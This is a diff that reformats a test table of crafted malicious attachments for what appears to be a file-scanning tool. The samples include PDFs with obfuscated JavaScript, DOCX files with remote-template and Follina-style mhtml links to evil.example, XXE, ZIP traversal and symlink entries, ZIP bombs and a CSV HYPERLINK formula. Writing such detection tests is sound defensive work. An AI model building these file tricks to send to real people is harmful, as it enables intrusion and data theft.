@@ -13,7 +13,10 @@ TYPES = (
     '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
     'wordprocessingml.document.main+xml"/></Types>'
 )
-RELATION = '<Relationships><Relationship Id="r1" Type="http://schemas/{type}" Target="{to}" TargetMode="External"/></Relationships>'
+RELATION = (
+    '<Relationships><Relationship Id="r1" Type="http://schemas/{type}" Target="{to}" TargetMode="External"/>'
+    "</Relationships>"
+)
 DOCX = {"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"}
 
 
@@ -57,7 +60,9 @@ def picture(form: str) -> bytes:
 
 
 def odt(kind: str = "application/vnd.oasis.opendocument.text", **parts: str) -> bytes:
-    return packed({"mimetype": kind, "content.xml": "<x/>", **{key.replace("__", "/"): each for key, each in parts.items()}})
+    return packed(
+        {"mimetype": kind, "content.xml": "<x/>", **{key.replace("__", "/"): each for key, each in parts.items()}}
+    )
 
 
 def overlapping() -> bytes:
@@ -77,7 +82,11 @@ CONTENTS, ACTIVE, BOMB = "attachment-contents", "attachment-active", "attachment
 PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
     "plain PDF": ("a.pdf", pdf, ""),
     "plain DOCX": ("a.docx", lambda: docx({}), ""),
-    "DOCX with a link": ("a.docx", lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="https://a.example/")}), ""),
+    "DOCX with a link": (
+        "a.docx",
+        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="https://a.example/")}),
+        "",
+    ),
     "plain ODT": ("a.odt", odt, ""),
     "plain ZIP": ("a.zip", lambda: packed({"a/b.pdf": "%PDF-"}), ""),
     "plain CSV": ("a.csv", lambda: b"a,b\r\n-5,+62 812\r\n", ""),
@@ -108,23 +117,71 @@ PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
     "program before a ZIP": ("a.zip", lambda: b"MZ" + bytes(100) + packed({"a.txt": "x"}), CONTENTS),
     "ZIP before a ZIP": ("a.docx", lambda: packed({"x.txt": "x"}) + docx({}), CONTENTS),
     "PDF with JavaScript": ("a.pdf", lambda: pdf(opening), ACTIVE),
-    "PDF with JavaScript, packed": ("a.pdf", lambda: pdf(opening, object_stream_mode=pikepdf.ObjectStreamMode.generate), ACTIVE),
-    "PDF with JavaScript, name in numbers": ("a.pdf", lambda: pdf(opening).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"), ACTIVE),
+    "PDF with JavaScript, packed": (
+        "a.pdf",
+        lambda: pdf(opening, object_stream_mode=pikepdf.ObjectStreamMode.generate),
+        ACTIVE,
+    ),
+    "PDF with JavaScript, name in numbers": (
+        "a.pdf",
+        lambda: pdf(opening).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53"),
+        ACTIVE,
+    ),
     "PDF that launches": ("a.pdf", lambda: pdf(lambda document: opening(document, "/Launch")), ACTIVE),
     "PDF with a file in it": ("a.pdf", lambda: pdf(embedded), ACTIVE),
     "PDF with a password": ("a.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")), CONTENTS),
     "DOCX with macros": ("a.docx", lambda: docx({"word/vbaProject.bin": b"x"}), ACTIVE),
     "DOCX with macros, other case": ("a.docx", lambda: docx({"word/VBAPROJECT.BIN": b"x"}), ACTIVE),
-    "DOCM renamed": ("a.docx", lambda: packed({**DOCX, "[Content_Types].xml": TYPES.replace("openxmlformats-officedocument.", "ms-word.macroEnabled.")}), ACTIVE),
-    "DOCX with a template from elsewhere": ("a.docx", lambda: docx({"word/_rels/settings.xml.rels": RELATION.format(type="attachedTemplate", to="https://evil.example/x.dotm")}), ACTIVE),
-    "DOCX with a picture from elsewhere": ("a.docx", lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="image", to="https://evil.example/x.png")}), ACTIVE),
-    "DOCX with a link to a share": ("a.docx", lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="file://evil.example/x")}), ACTIVE),
-    "DOCX with MHTML (Follina)": ("a.docx", lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="oleObject", to="mhtml:https://evil.example/x!x")}), ACTIVE),
+    "DOCM renamed": (
+        "a.docx",
+        lambda: packed(
+            {**DOCX, "[Content_Types].xml": TYPES.replace("openxmlformats-officedocument.", "ms-word.macroEnabled.")}
+        ),
+        ACTIVE,
+    ),
+    "DOCX with a template from elsewhere": (
+        "a.docx",
+        lambda: docx(
+            {"word/_rels/settings.xml.rels": RELATION.format(type="attachedTemplate", to="https://evil.example/x.dotm")}
+        ),
+        ACTIVE,
+    ),
+    "DOCX with a picture from elsewhere": (
+        "a.docx",
+        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="image", to="https://evil.example/x.png")}),
+        ACTIVE,
+    ),
+    "DOCX with a link to a share": (
+        "a.docx",
+        lambda: docx({"word/_rels/document.xml.rels": RELATION.format(type="hyperlink", to="file://evil.example/x")}),
+        ACTIVE,
+    ),
+    "DOCX with MHTML (Follina)": (
+        "a.docx",
+        lambda: docx(
+            {"word/_rels/document.xml.rels": RELATION.format(type="oleObject", to="mhtml:https://evil.example/x!x")}
+        ),
+        ACTIVE,
+    ),
     "DOCX with an object": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"x"}), ACTIVE),
     "DOCX with ActiveX": ("a.docx", lambda: docx({"word/activeX/activeX1.xml": "x"}), ACTIVE),
-    "DOCX with a document type (XXE)": ("a.docx", lambda: packed({**DOCX, "[Content_Types].xml": "<!DOCTYPE x>" + TYPES}), ACTIVE),
-    "XLSX with Excel 4 macros": ("a.xlsx", lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>"}), ACTIVE),
-    "XLSX with a book from elsewhere": ("a.xlsx", lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/externalLinks/externalLink1.xml": "<x/>"}), ACTIVE),
+    "DOCX with a document type (XXE)": (
+        "a.docx",
+        lambda: packed({**DOCX, "[Content_Types].xml": "<!DOCTYPE x>" + TYPES}),
+        ACTIVE,
+    ),
+    "XLSX with Excel 4 macros": (
+        "a.xlsx",
+        lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/macrosheets/sheet1.xml": "<x/>"}),
+        ACTIVE,
+    ),
+    "XLSX with a book from elsewhere": (
+        "a.xlsx",
+        lambda: packed(
+            {"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>", "xl/externalLinks/externalLink1.xml": "<x/>"}
+        ),
+        ACTIVE,
+    ),
     "XLSX named DOCX": ("a.docx", lambda: packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<x/>"}), CONTENTS),
     "ZIP named DOCX": ("a.docx", lambda: packed({"a.txt": "x"}), CONTENTS),
     "ODT with Basic": ("a.odt", lambda: odt(Basic__Standard__x_xml="x"), ACTIVE),
@@ -138,11 +195,19 @@ PARCELS: dict[str, tuple[str, Callable[[], bytes], str | tuple[str, ...]]] = {
     "ZIP with an absolute path": ("a.zip", lambda: packed({"/etc/a.txt": "x"}), ACTIVE),
     "ZIP with a drive": ("a.zip", lambda: packed({"C:/a.txt": "x"}), ACTIVE),
     "ZIP with backslashes": ("a.zip", lambda: packed({"a.txt": "x"}).replace(b"a.txt", b"\\.txt"), ACTIVE),
-    "ZIP with a link": ("a.zip", lambda: packed({"a.txt": "/etc/passwd"}, external_attr=0o120777 << 16, create_system=3), ACTIVE),
+    "ZIP with a link": (
+        "a.zip",
+        lambda: packed({"a.txt": "/etc/passwd"}, external_attr=0o120777 << 16, create_system=3),
+        ACTIVE,
+    ),
     "ZIP with names that differ in case": ("a.zip", lambda: packed({"a.txt": "x", "A.txt": "y"}), ACTIVE),
     "ZIP bomb": ("a.zip", lambda: packed({"a.txt": bytes(60_000_000)}), BOMB),
     "DOCX bomb": ("a.docx", lambda: docx({"word/media/a.png": bytes(60_000_000)}), BOMB),
-    "ZIP bomb of many": ("a.zip", lambda: packed({f"{number}.txt": "" for number in range(6000)}, zipfile.ZIP_STORED), BOMB),
+    "ZIP bomb of many": (
+        "a.zip",
+        lambda: packed({f"{number}.txt": "" for number in range(6000)}, zipfile.ZIP_STORED),
+        BOMB,
+    ),
     "ZIP bomb that overlaps": ("a.zip", overlapping, (BOMB, CONTENTS)),
     "ZIP cut off": ("a.zip", lambda: packed({"a.txt": "x"})[:-8], CONTENTS),
     "CSV with a formula": ("a.csv", lambda: b'a,b\r\n1,=HYPERLINK("http://evil.example")\r\n', ACTIVE),
